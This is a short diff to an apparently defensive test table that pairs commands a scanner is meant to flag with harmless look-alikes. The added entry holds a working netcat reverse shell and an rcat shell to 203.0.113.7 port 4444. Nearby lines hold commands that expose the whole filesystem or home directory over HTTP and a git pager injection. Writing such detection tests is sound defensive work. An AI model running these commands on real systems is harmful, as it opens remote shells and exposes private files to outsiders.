@@ -146,6 +146,8 @@ CASES: dict[str, tuple[list[str], list[str]]] = {
                   ["ssh -L 8080:localhost:80 host"]),
     "EXFIL-005": (["busybox httpd -f -p 8080 -h /", "python3 -m http.server --directory ~ 8000",
                    "cd / && python3 -m http.server"], ["python3 -m http.server 8000 --directory docs"]),
+    "SHELL-008": (["rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
+                   "rcat connect -s bash 203.0.113.7 4444"], ["make 2>&1 | tee build.log"]),
     "EXEC-004": (["git -c core.pager='less \"' log"], ["git -c core.pager=less log"]),
 }
 
